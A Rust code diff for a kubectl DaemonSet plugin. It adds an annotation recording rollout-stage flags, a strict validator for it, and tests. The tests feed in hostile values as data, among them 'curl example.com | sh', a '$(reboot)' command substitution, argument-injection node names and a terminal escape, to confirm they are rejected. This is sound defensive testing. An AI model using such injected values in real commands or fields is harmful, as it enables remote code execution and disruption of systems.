@@ -1,11 +1,12 @@
 //! A hold: the update strategy of a DaemonSet is suspended, and annotations keep what it was.
 
 use jiff::Timestamp;
-use serde::Deserialize;
+use serde::{Deserialize, Serialize};
 use serde_json::{Value, json};
 
 use super::daemon_set::{DaemonSet, Flavor, UpdateStrategy};
 use super::int_or_percent::IntOrPercent;
+use super::selector::{LabelSelector, is_label_key, is_label_value};
 
 /// The annotation that keeps the update strategy as it was before the hold, in JSON.
 pub const ORIGINAL_STRATEGY_ANNOTATION: &str = "kubectl-ds/original-update-strategy";
@@ -19,9 +20,18 @@ pub const PARTITION_ANNOTATION: &str = "kubectl-ds/partition";
 /// The annotation that names the last client that has updated pods.
 pub const RUN_ANNOTATION: &str = "kubectl-ds/run";
 
+/// The annotation with the gates of the last stage and the nodes it was limited to, see [`StageFlags`].
+pub const GATES_ANNOTATION: &str = "kubectl-ds/gates";
+
 /// All annotations of a hold.
-pub const ANNOTATIONS: [&str; 4] =
-    [ORIGINAL_STRATEGY_ANNOTATION, HELD_SINCE_ANNOTATION, PARTITION_ANNOTATION, RUN_ANNOTATION];
+pub const ANNOTATIONS: [&str; 5] =
+    [ORIGINAL_STRATEGY_ANNOTATION, HELD_SINCE_ANNOTATION, PARTITION_ANNOTATION, RUN_ANNOTATION, GATES_ANNOTATION];
+
+/// All annotations of an object together may have 256 KiB.
+const MAX_GATES_LENGTH: usize = 16 << 10;
+
+/// The version of the annotation's format that is written and read.
+const GATES_VERSION: u32 = 1;
 
 /// A hold of a DaemonSet of Kubernetes' own.
 #[derive(Debug, Clone, PartialEq)]
@@ -32,6 +42,8 @@ pub struct Hold {
     pub is_original_lost: bool,
     /// How many pods stay on older revisions; `None` if all are held.
     pub partition: Option<IntOrPercent>,
+    /// The flags of the last stage; `None` if they are not known.
+    pub flags: Option<StageFlags>,
     /// When the hold began, if that can be read.
     pub since: Option<Timestamp>,
     /// Whether the strategy is still suspended: somebody else may have put it back.
@@ -56,6 +68,7 @@ impl Hold {
                 if is_usable(&live) { live } else { json!({"type": "RollingUpdate"}) }
             }),
             partition: annotation(PARTITION_ANNOTATION).and_then(|partition| partition.parse().ok()),
+            flags: annotation(GATES_ANNOTATION).and_then(StageFlags::read),
             since: annotation(HELD_SINCE_ANNOTATION).and_then(|since| since.parse().ok()),
             is_in_force: daemon_set.spec.update_strategy == UpdateStrategy::OnDelete,
         })
@@ -64,6 +77,102 @@ impl Hold {
     /// Returns the update strategy before the hold.
     pub fn original_strategy(&self) -> UpdateStrategy {
         strategy(&self.original).unwrap_or_default()
+    }
+}
+
+/// The flags of a stage that the next run needs, too: its gates, and which nodes it is limited to.
+///
+/// Anybody who may edit the DaemonSet may have written them. They are only ever shown, as a command that somebody may run; so
+/// that a command of `--verify` is not kept at all, only that there was one.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct StageFlags {
+    /// The only nodes that may be updated, in this order; all if empty.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub nodes: Vec<String>,
+    /// Whether there were too many nodes to keep.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub has_other_nodes: bool,
+    /// The selector of nodes, or empty.
+    #[serde(default, skip_serializing_if = "String::is_empty")]
+    pub node_selector: String,
+    /// The label by whose values nodes are spread.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub spread_by: Option<String>,
+    /// How many nodes may become unavailable in the run.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_unavailable: Option<IntOrPercent>,
+    /// How often a new pod may restart.
+    #[serde(default)]
+    pub max_restarts: i32,
+    /// For how many seconds new pods must be available at the end.
+    #[serde(default)]
+    pub soak_seconds: i64,
+    /// After how many seconds without progress the stage stops.
+    pub progress_deadline_seconds: i64,
+    /// Whether a command had to succeed for each updated node.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub verifies: bool,
+    /// The label that each updated node must have, as `key=value`.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub wait_for_label: Option<String>,
+    /// Whether updated nodes are rolled back after a gate has failed.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub undoes_on_failure: bool,
+    /// Whether images are pulled first.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub prepull: bool,
+    /// Whether pods are evicted.
+    #[serde(default, skip_serializing_if = "is_false")]
+    pub evict: bool,
+}
+
+/// The annotation: the flags, and the version of their format.
+#[derive(Serialize, Deserialize)]
+struct Versioned<T> {
+    version: u32,
+    flags: T,
+}
+
+#[expect(clippy::trivially_copy_pass_by_ref, reason = "serde passes references")]
+fn is_false(flag: &bool) -> bool {
+    !flag
+}
+
+impl StageFlags {
+    /// Returns the annotation, which is small.
+    pub fn to_annotation(&self) -> String {
+        let text = |flags: &StageFlags| json!(Versioned { version: GATES_VERSION, flags }).to_string();
+        let all = text(self);
+        match all.len() <= MAX_GATES_LENGTH {
+            true => all,
+            false => text(&StageFlags { nodes: Vec::new(), has_other_nodes: true, ..self.clone() }),
+        }
+    }
+
+    /// Reads the annotation; `None` if anything in it is not what a run writes.
+    fn read(text: &str) -> Option<Self> {
+        if text.len() > MAX_GATES_LENGTH {
+            return None;
+        }
+        let Versioned { version, flags } = serde_json::from_str::<Versioned<Value>>(text).ok()?;
+        if version != GATES_VERSION {
+            return None;
+        }
+        let flags = StageFlags::deserialize(flags).ok()?;
+        let is_node =
+            |name: &String| !name.is_empty() && !name.contains(['/', '_']) && is_label_key(&format!("{name}/n"));
+        let is_label =
+            |text: &String| text.split_once('=').is_some_and(|(key, value)| is_label_key(key) && is_label_value(value));
+        let is_usable = flags.nodes.iter().all(is_node)
+            && flags.node_selector.parse::<LabelSelector>().is_ok()
+            && flags.spread_by.as_deref().is_none_or(is_label_key)
+            && flags.max_unavailable.is_none_or(|amount| amount.value() >= 0)
+            && flags.max_restarts >= 0
+            && flags.soak_seconds >= 0
+            && flags.progress_deadline_seconds > 0
+            && flags.wait_for_label.as_ref().is_none_or(is_label);
+        is_usable.then_some(flags)
     }
 }
 
@@ -89,8 +198,75 @@ fn strategy(value: &Value) -> Option<UpdateStrategy> {
 mod tests {
     use serde_json::{Value, json};
 
-    use super::{Hold, ORIGINAL_STRATEGY_ANNOTATION};
+    use super::{Hold, MAX_GATES_LENGTH, ORIGINAL_STRATEGY_ANNOTATION, StageFlags};
     use crate::model::daemon_set::DaemonSet;
+
+    fn flags() -> StageFlags {
+        StageFlags {
+            nodes: vec!["n1".to_owned(), "n2.example".to_owned()],
+            node_selector: "zone in (a,b)".to_owned(),
+            spread_by: Some("example.com/rack".to_owned()),
+            max_unavailable: Some("10%".parse().unwrap()),
+            max_restarts: 2,
+            soak_seconds: 90,
+            progress_deadline_seconds: 5,
+            verifies: true,
+            wait_for_label: Some("ready=2".to_owned()),
+            undoes_on_failure: true,
+            prepull: true,
+            evict: true,
+            ..StageFlags::default()
+        }
+    }
+
+    #[test]
+    fn the_flags_of_a_stage_are_read_as_they_were_written() {
+        let only_deadline = StageFlags { progress_deadline_seconds: 600, ..StageFlags::default() };
+        for flags in [flags(), only_deadline] {
+            assert_eq!(StageFlags::read(&flags.to_annotation()), Some(flags));
+        }
+        // Too many nodes are left out, and that is known.
+        let nodes = (0..5000).map(|number| format!("node-{number}")).collect();
+        let many = StageFlags { nodes, ..flags() }.to_annotation();
+        assert!(many.len() < MAX_GATES_LENGTH);
+        let read = StageFlags::read(&many).unwrap();
+        assert_eq!((read.nodes.len(), read.has_other_nodes, read.evict), (0, true, true));
+    }
+
+    /// Anybody may have written it, or another version of this program.
+    #[test]
+    fn flags_that_no_run_writes_are_not_used() {
+        let with = |change: &dyn Fn(&mut Value)| {
+            let mut annotation: Value = serde_json::from_str(&flags().to_annotation()).unwrap();
+            change(&mut annotation);
+            StageFlags::read(&annotation.to_string())
+        };
+        assert!(with(&|_| {}).is_some());
+        assert_eq!(with(&|annotation| annotation["version"] = 2.into()), None);
+        for (field, value) in [
+            ("verify", json!("curl example.com | sh")),
+            ("verifies", json!("curl example.com | sh")),
+            ("nodes", json!(["$(reboot)"])),
+            ("nodes", json!([""])),
+            ("nodes", json!(["a b"])),
+            ("nodes", json!(["--evict=false"])),
+            ("nodeSelector", json!("a b ; c")),
+            ("spreadBy", json!("--to-revision")),
+            ("maxUnavailable", json!(-1)),
+            ("maxRestarts", json!(-1)),
+            ("soakSeconds", json!(-1)),
+            ("progressDeadlineSeconds", json!(0)),
+            ("progressDeadlineSeconds", Value::Null),
+            ("waitForLabel", json!("a")),
+            ("waitForLabel", json!("a=\u{1b}[2J")),
+        ] {
+            assert_eq!(with(&|annotation| annotation["flags"][field] = value.clone()), None, "{field} {value}");
+        }
+        for text in ["", "{", "null", "[]", "1", r#"{"version": 1}"#, &format!("{{}}{}", " ".repeat(MAX_GATES_LENGTH))]
+        {
+            assert_eq!(StageFlags::read(text), None, "{text}");
+        }
+    }
 
     /// The pace stays in the spec under OnDelete, so that even a broken annotation loses nothing.
     #[test]
